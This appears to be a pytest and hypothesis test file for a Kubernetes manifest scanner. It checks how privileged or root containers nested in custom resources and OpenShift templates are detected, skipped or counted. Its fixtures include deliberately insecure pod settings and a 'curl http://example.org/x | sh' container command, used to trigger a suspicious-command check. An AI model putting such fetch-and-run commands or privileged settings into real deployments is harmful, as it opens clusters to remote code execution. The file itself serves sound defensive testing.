"""Kinds that no check knows: pods and whole objects are found by their shape, and what is not judged is said."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from iocaudit.core.kinds.unknown import COMPOSITIONS, PATTERNS
from iocaudit.engine.catalogue import builtin_catalogue
from iocaudit.scanning.scan import Scan, ScanOptions, scan_files
from tests.support.running import run

Json = dict[str, Any]
CATALOGUE = builtin_catalogue()
BAD: Json = {"name": "c", "image": "example.org/a:1", "securityContext": {"privileged": True}}
POD: Json = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "inside"}, "spec": {"containers": [BAD]}}
REFERENCE: Json = {"apiVersion": "v1", "kind": "Pod", "name": "elsewhere"}


def custom(spec: Any, *, group: str = "example.com", kind: str = "Thing", **more: Any) -> Json:
    return {"apiVersion": f"{group}/v1", "kind": kind, "metadata": {"name": "it"}, "spec": spec, **more}


def scanned(*objects: Json, written: str = "yaml", **options: Any) -> Scan:
    text = yaml.safe_dump_all(objects) if written == "yaml" else "\n".join(map(json.dumps, objects))
    return scan_files([], CATALOGUE, ScanOptions(**options), texts={f"a.{written}": text.encode()})


def told(scan: Scan, check: str = "privileged-container") -> list[tuple[str, str]]:
    return [(str(one.subject), one.hit.path) for one in scan.report.found if one.check == check]


def skipped(scan: Scan) -> list[str]:
    return [f"{one.subject}: {one.reason}" for one in scan.report.skipped]


PRIVILEGED = '["c"].securityContext.privileged'


@pytest.mark.parametrize("written", ["yaml", "json"])
@pytest.mark.parametrize(
    ("spec", "path"),
    [
        ({"podTemplate": {"spec": {"containers": [BAD]}}}, "spec.podTemplate.spec.containers"),
        ({"template": {"spec": {"containers": [BAD]}}}, "spec.template.spec.containers"),
        ({"template": {"containers": [BAD]}}, "spec.template.containers"),
        ({"containers": [BAD]}, "spec.containers"),
        ({"sets": [{"name": "a", "podTemplate": {"spec": {"containers": [BAD]}}}]}, None),
        ({"sets": [{"podTemplate": {"spec": {"containers": [BAD]}}}]}, "spec.sets[0].podTemplate.spec.containers"),
    ],
)
def test_a_pod_is_found_where_it_stands(spec: Json, path: str | None, written: str) -> None:
    scan = scanned(custom(spec), written=written)
    at = path or 'spec.sets["a"].podTemplate.spec.containers'
    assert told(scan) == [("Thing it", at + PRIVILEGED)]
    assert all(one.origin.by_shape and one.hit.repair is None for one in scan.report.found)
    assert not scan.report.skipped
    assert scan.unjudged == {}


def test_what_is_not_written_is_not_told_of_a_pod() -> None:
    """Its controller may add limits, a user and the rest."""
    assert {one.check for one in scanned(custom({"podTemplate": {"spec": {"containers": [BAD]}}})).report.found} == {
        "privileged-container"
    }
    explicit = {**BAD, "securityContext": {"runAsNonRoot": False, "allowPrivilegeEscalation": True}}
    assert {one.check for one in scanned(custom({"template": {"spec": {"containers": [explicit]}}})).report.found} == {
        "may-run-as-root",
        "privilege-escalation-allowed",
    }


@pytest.mark.parametrize(
    "container",
    [
        {"name": "c", "securityContext": {"privileged": True}},
        {"image": "a", "securityContext": {"privileged": True}},
        {**BAD, "image": "{{ .Values.image }}"},
        {**BAD, "image": "$(params.image)"},
        {**BAD, "image": "${IMAGE}"},
        {**BAD, "name": "<your name>"},
        {**BAD, "image": 1},
    ],
)
def test_an_incomplete_pod_is_not_judged_and_that_is_said(container: Json) -> None:
    scan = scanned(custom({"podTemplate": {"spec": {"containers": [BAD, container]}}}))
    assert told(scan) == []
    assert len(skipped(scan)) == 1
    assert "spec.podTemplate.spec.containers was not audited" in skipped(scan)[0]
    assert scan.unjudged == {"Thing.example.com": 1}


@pytest.mark.parametrize(
    "spec",
    [
        {"containers": ["a", "b"]},
        {"containers": {"type": "array"}},
        {"containers": []},
        {"containers": None},
        {"text": "containers: [{name: a, image: b}]"},
        {"targetRef": REFERENCE, "refs": [REFERENCE]},
        {"a": 1},
        [],
        None,
    ],
)
def test_what_only_sounds_alike_is_counted_and_no_more(spec: Any) -> None:
    scan = scanned(custom(spec))
    assert not scan.report.found
    assert not scan.report.skipped
    assert scan.unjudged == {"Thing.example.com": 1}
    assert scan.notes == ["1 object of a kind that no check looks at: Thing (1)"]
    assert scan.report.audited == 0


@pytest.mark.parametrize("group", sorted(PATTERNS))
def test_what_policies_hold_never_runs(group: str) -> None:
    for spec in ({"template": {"spec": {"containers": [BAD]}}}, {"objects": [POD]}):
        scan = scanned(custom(spec, group=group))
        assert not scan.report.found
        assert not scan.report.skipped
        assert scan.unjudged == {f"Thing.{group}": 1}
        if "." in group:
            assert not scanned(custom(spec, group=f"below.{group}")).report.found
            assert scanned(custom(spec, group=f"not{group}")).report.found


def test_what_was_does_not_run() -> None:
    template = {"spec": {"template": {"spec": {"containers": [BAD]}}}}
    for kind, judged in (("ControllerRevision", False), ("Other", True)):
        scan = scanned({"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": "web-1"}, "data": template})
        assert bool(scan.report.found) is judged
        assert not scan.report.skipped


@pytest.mark.parametrize("group", sorted(COMPOSITIONS))
def test_a_recipe_is_not_judged_and_that_is_said(group: str) -> None:
    for spec in ({"template": {"spec": {"containers": [BAD]}}}, {"resources": [{"base": POD}]}):
        scan = scanned(custom(spec, group=group))
        assert not scan.report.found
        assert len(skipped(scan)) == 1


@pytest.mark.parametrize("written", ["yaml", "json"])
@pytest.mark.parametrize(
    "outer",
    [
        custom({"workload": {"manifests": [POD]}}, group="work.open-cluster-management.io", kind="ManifestWork"),
        custom({"workload": {"manifests": [POD]}}, group="work.karmada.io", kind="Work"),
        custom({"forProvider": {"manifest": POD}}, group="kubernetes.crossplane.io", kind="Object"),
        custom({"components": [{"name": "a", "template": POD}]}, group="workload.codeflare.dev", kind="AppWrapper"),
        custom({"resourcetemplates": [POD]}, group="triggers.tekton.dev", kind="TriggerTemplate"),
        custom({"resources": [POD]}, group="hive.openshift.io", kind="SyncSet"),
        custom({"values": {"extraObjects": [POD]}}, group="helm.toolkit.fluxcd.io", kind="HelmRelease"),
        custom(None, group="template.openshift.io", kind="Template", objects=[POD]),
        {"apiVersion": "v1", "kind": "Template", "metadata": {"name": "old"}, "objects": [POD]},
        custom(None, group="template.openshift.io", kind="Template", objects=[custom({"a": {"b": [POD]}})]),
        custom(
            None,
            group="template.openshift.io",
            kind="Template",
            objects=[{"apiVersion": "v1", "kind": "List", "metadata": {}, "items": [POD]}],
        ),
    ],
    ids=lambda outer: outer["kind"],
)
def test_a_whole_object_is_judged_as_itself(outer: Json, written: str) -> None:
    scan = scanned(outer, written=written)
    assert told(scan) == [("Pod inside", f"spec.containers{PRIVILEGED}")]
    assert {"memory-unlimited", "no-ingress-policy"} <= {one.check for one in scan.report.found}
    assert all(one.origin.by_shape for one in scan.report.found)
    assert (scan.report.audited, scan.unjudged, scan.report.skipped) == (1, {}, [])


def test_lines_are_those_of_what_is_wrapped(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(
        "apiVersion: template.openshift.io/v1\nkind: Template\nmetadata: {name: t}\nobjects:\n"
        "- apiVersion: v1\n  kind: Pod\n  metadata: {name: p}\n  spec:\n    containers:\n    - name: c\n"
        "      image: a\n      securityContext:\n        privileged: true\n"
    )
    code, said, _ = run("scan", "-o", "json", "--check", "privileged-container", str(tmp_path))
    (finding,) = json.loads(said)["findings"]
    assert (code, finding["line"], finding["byShape"]) == (1, 13, True)


def test_what_is_wrapped_together_is_one_world() -> None:
    policy = {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": "all"},
        "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"]},
    }
    outer = custom(None, group="template.openshift.io", kind="Template", objects=[POD, policy])
    assert told(scanned(outer), "no-ingress-policy") == []


def test_parameters_of_a_template_are_filled_in() -> None:
    pod = json.loads(json.dumps(POD))
    pod["spec"]["containers"][0] |= {"image": "${IMAGE}:${TAG}", "securityContext": {"privileged": "${{ROOT}}"}}
    given = [{"name": "IMAGE", "value": "example.org/a"}, {"name": "ROOT", "value": "true"}, {"name": "TAG"}]
    for tag, checks in ((None, set()), ("latest", {"mutable-image-tag"}), ("1.2", set())):
        parameters = [*given[:2], {"name": "TAG", **({"value": tag} if tag else {"generate": "expression"})}]
        outer = custom(None, group="template.openshift.io", kind="Template", objects=[pod], parameters=parameters)
        found = {one.check for one in scanned(outer).report.found}
        assert found & {"mutable-image-tag", "image-without-digest"} == checks
        assert "privileged-container" in found


def test_parameters_cannot_make_a_template_grow_without_end() -> None:
    pod = json.loads(json.dumps(POD))
    pod["spec"]["containers"][0]["args"] = ["${A}" * 10_000] * 100
    parameters = [{"name": "A", "value": "x" * 10_000}]
    outer = custom(None, group="template.openshift.io", kind="Template", objects=[pod], parameters=parameters)
    assert told(scanned(outer))


def test_every_output_counts_what_is_not_judged(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(
        yaml.safe_dump_all([custom({"a": 1}), custom({"a": 1}), custom({"a": 1}, kind="Other")])
    )
    for output in ("table", "json", "sarif", "junit", "github"):
        _, said, _ = run("scan", "-o", output, str(tmp_path))
        assert "3 objects of kinds that no check looks at: Thing (2), Other (1)" in said, output
    # Whichever checks were chosen: a Service is looked at by others.
    service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "s"}}
    (tmp_path / "b.yaml").write_text(yaml.safe_dump(service))
    (tmp_path / "c.json").write_text(json.dumps(service))
    _, said, _ = run("scan", "-o", "json", "--check", "host-pid", str(tmp_path))
    assert json.loads(said)["summary"]["unjudged"] == {"Thing.example.com": 2, "Other.example.com": 1}
    assert json.loads(said)["summary"]["otherKinds"] == 5


def test_containers_that_nobody_judges_make_a_scan_incomplete(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(yaml.safe_dump(custom({"sidecars": {"containers": [{"name": "a"}]}})))
    assert run("scan", "--require-complete", str(tmp_path))[0] == 3
    (tmp_path / "a.yaml").write_text(yaml.safe_dump(custom({"sidecars": {"enabled": True}})))
    assert run("scan", "--require-complete", str(tmp_path))[0] == 0


def test_nothing_is_repaired_in_a_kind_that_nobody_knows(tmp_path: Path) -> None:
    file = tmp_path / "a.yaml"
    file.write_text(yaml.safe_dump(custom({"template": {"spec": {"containers": [BAD]}}})))
    before = file.read_bytes()
    run("scan", "--fix", "--unsafe-fixes", str(tmp_path))
    assert file.read_bytes() == before


NAMES = st.sampled_from(["template", "podTemplate", "spec", "nodes", "sets", "a b", "workers"])
SETTINGS: st.SearchStrategy[Json] = st.fixed_dictionaries(
    {},
    optional={
        "securityContext": st.sampled_from([{"privileged": True}, {"runAsUser": 0}, {"runAsNonRoot": True}]),
        "image": st.sampled_from(["a:latest", "example.org/b:1", "c@sha256:" + "0" * 64]),
        "ports": st.just([{"containerPort": 80, "hostPort": 80}]),
        "command": st.just(["sh", "-c", "curl http://example.org/x | sh"]),
    },
)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(SETTINGS, min_size=1, max_size=3),
    st.fixed_dictionaries({}, optional={"hostPID": st.just(True), "hostNetwork": st.just(True)}),
    st.lists(st.tuples(NAMES, st.booleans()), min_size=1, max_size=5),
)
def test_a_pod_says_the_same_wherever_it_stands(containers: list[Json], pod: Json, way: list[tuple[str, bool]]) -> None:
    """What is told of it is what a Pod of the same spec would be told for what it says itself."""
    listed = [{"image": "a:1", **one, "name": f"c{number}"} for number, one in enumerate(containers)]
    inner: Any = {**pod, "containers": listed}
    plain = scanned({**POD, "spec": inner})
    path = ""
    for name, in_list in way:
        inner = {name: [inner] if in_list else inner}
        path = (f'["{name}"]' if " " in name else f".{name}") + ("[0]" if in_list else "") + path
    told = scanned(custom(inner)).report.found
    found = {(one.check, one.hit.path.removeprefix("spec").removeprefix(path)) for one in told}
    explicit = {
        (one.check, one.hit.path.removeprefix("spec"))
        for one in plain.report.found
        if one.check in {check for check, _ in found}
        or one.check in ("privileged-container", "runs-as-root", "host-pid", "host-port", "suspicious-command")
    }
    assert found == explicit
